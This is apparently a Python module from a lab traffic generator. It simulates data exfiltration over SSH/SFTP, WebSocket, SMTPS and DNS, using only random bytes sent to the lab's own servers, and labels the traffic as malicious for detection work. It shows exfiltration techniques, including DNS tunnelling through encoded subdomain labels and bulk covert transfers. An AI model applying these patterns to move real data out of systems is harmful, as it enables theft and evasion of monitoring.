"""Data carried out over other carriers than HTTPS: SSH, WebSocket, mail, DNS. Shapes only: random bytes, the lab's
servers.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import math
import os
import ssl
import subprocess
from collections.abc import AsyncIterator, Awaitable, Callable
from random import Random
from typing import TYPE_CHECKING

from ..activity import Activity, pairs
from ..fence import check
from ..part import Part
from ..workers import side_by_side
from . import bots, dns, mail, ssh

if TYPE_CHECKING:
    from aiohttp import web
    from websockets.asyncio.server import ServerConnection

PORT = 443

ACTIVITIES = {
    "exfiltration_ssh": Activity(
        "file_transfer",
        ("openssh/sftp", "openssh/openssh", "dropbear/openssh", "openssh/dbclient", "dropbear/dbclient"),
        application="SSH",
        malicious="exfiltration_ssh",
        tcp_ports=(ssh.PORT,),
    ),
    "exfiltration_websocket": Activity(
        "web",
        pairs(("websockets", "aiohttp"), ("websockets", "aiohttp")),
        malicious="exfiltration_websocket",
        tcp_ports=(PORT,),
    ),
    "exfiltration_mail": Activity(
        "email",
        pairs(("python", "stunnel"), ("smtplib", "curl", "msmtp")),
        application="SMTPS",
        malicious="exfiltration_mail",
        tcp_ports=(mail.PORT,),
    ),
    "exfiltration_dns": Activity(
        "infrastructure",
        pairs(("dnsmasq", "unbound"), ("dig", "python")),
        application="DNS",
        malicious="exfiltration_dns",
    ),
}


def serve(part: Part) -> None:
    serves: dict[str, Callable[[Part], None]] = {
        "exfiltration_ssh": ssh.serve,
        "exfiltration_websocket": lambda part: asyncio.run(_takes(part)),
        "exfiltration_mail": mail.serve,
        "exfiltration_dns": dns.serve,
    }
    serves[part.activity](part)


async def _takes(part: Part) -> None:
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(part.secrets / "cert.pem", part.secrets / "key.pem")
    if part.server == "websockets":
        import websockets

        async def take(connection: ServerConnection) -> None:
            try:
                async for _ in connection:
                    await connection.send(os.urandom(12))
            except websockets.ConnectionClosed:
                pass

        await websockets.serve(take, part.address, PORT, ssl=context, max_size=None, compression=None)
    else:
        from aiohttp import web

        async def answer(request: web.Request) -> web.WebSocketResponse:
            socket = web.WebSocketResponse(max_msg_size=0)
            await socket.prepare(request)
            async for _ in socket:
                await socket.send_bytes(os.urandom(12))
            return socket

        app = web.Application()
        app.router.add_get("/", answer)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, part.address, PORT, ssl_context=context).start()
    part.ready()
    await asyncio.Event().wait()


def act(part: Part) -> None:
    check(part)
    play: Callable[[Part, Random], None] = {
        "exfiltration_ssh": _ssh,
        "exfiltration_websocket": lambda part, draw: asyncio.run(_websocket(part, draw)),
        "exfiltration_mail": _mail,
        "exfiltration_dns": _dns,
    }[part.activity]
    side_by_side(part, [lambda: play(part, part.draw)])


def _bulk(draw: Random) -> int:
    """Bytes of an archive's piece."""
    return int(min(max(draw.lognormvariate(math.log(500_000), 0.8), 60_000), 3_000_000))


def _ssh(part: Part, draw: Random) -> None:
    """Archives one after the other, each over a connection of its own, at a machine's pace."""
    for _ in range(12):
        data = os.urandom(_bulk(draw))
        if part.client == "sftp":
            file = part.scratch / "file"
            file.write_bytes(data)
            words = ssh.client_command("openssh", part, target=False)[1:]
            words[words.index("-p")] = "-P"
            # The server's copy is a scratch file too: hosts share the machine's file system.
            subprocess.run(
                ["sftp", *words, "-q", "-b", "-", f"root@{part.address}"],
                stdout=subprocess.DEVNULL,
                check=True,
                input=f"put {file} {part.scratch}/copy\nrm {part.scratch}/copy\n".encode(),
            )
        else:
            subprocess.run(
                ssh.client_command(part.client, part, "cat >/dev/null"),
                input=data,
                stdout=subprocess.DEVNULL,
                check=True,
            )
        if not part.pause(draw.uniform(0.2, 2)):
            return


@contextlib.asynccontextmanager
async def _connected(part: Part) -> AsyncIterator[Callable[[bytes], Awaitable[None]]]:
    """A WebSocket connection, as what sends a piece and waits for its receipt."""
    context = ssl._create_unverified_context()
    if part.client == "websockets":
        import websockets

        async with websockets.connect(f"wss://{part.name}/", ssl=context, max_size=None, compression=None) as opened:

            async def tell(data: bytes) -> None:
                await opened.send(data)
                await opened.recv()

            yield tell
    else:
        import aiohttp

        async with aiohttp.ClientSession() as session, session.ws_connect(f"wss://{part.name}/", ssl=context) as made:

            async def say(data: bytes) -> None:
                await made.send_bytes(data)
                await made.receive()

            yield say


async def _websocket(part: Part, draw: Random) -> None:
    """Pieces of one size, each acknowledged, at a fixed pace or as fast as they go; after some a new connection."""
    piece, pace = draw.choice((1024, 4096, 16_384, 65_536)), draw.choice((0.05, 0.2, 0.5))
    while part.left() > 1:
        async with _connected(part) as send:
            for _ in range(draw.randrange(20, 90)):
                await send(os.urandom(piece))
                await asyncio.sleep(pace)
                if part.left() < 0.5:
                    break
        await asyncio.sleep(draw.uniform(0.1, 2))


def _mail(part: Part, draw: Random) -> None:
    """Mails to one receiver, each with an attachment of about the same size, as many as fit."""
    size = draw.uniform(80_000, 1_500_000)
    for _ in range(25):
        body = base64.encodebytes(os.urandom(int(size * draw.uniform(0.9, 1.0)))).decode()
        bots.send_mail(part, draw, f"From: a@lab.test\nTo: b@lab.test\nSubject: {draw.randrange(999)}\n\n{body}", 1)
        if not part.pause(draw.uniform(0.3, 3)):
            return


def _dns(part: Part, draw: Random) -> None:
    """Names as long as names may be, one after the other; some hundreds over one port, then the next."""
    import socket

    pace = draw.choice((0.03, 0.08, 0.2))
    for _ in range(12):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as held:
            port = draw.randrange(20_000, 60_000)
            for number in range(draw.randrange(30, 120)):
                text = (
                    base64.b32encode(draw.randbytes(128))
                    .decode()
                    .lower()
                    .rstrip("=")[: draw.choice((180, 180, 180, 120))]
                )
                name = ".".join(text[at : at + 60] for at in range(0, len(text), 60)) + f".{number}.{dns.ZONE}"
                if part.client == "dig":
                    subprocess.run(
                        ["dig", "-b", f"0.0.0.0#{port}", "+time=2", "+tries=1", f"@{part.address}", name],
                        stdout=subprocess.DEVNULL,
                        check=False,
                    )
                else:
                    dns._ask(part.address, name, dns._A, over=held)
                if not part.pause(pace):
                    return
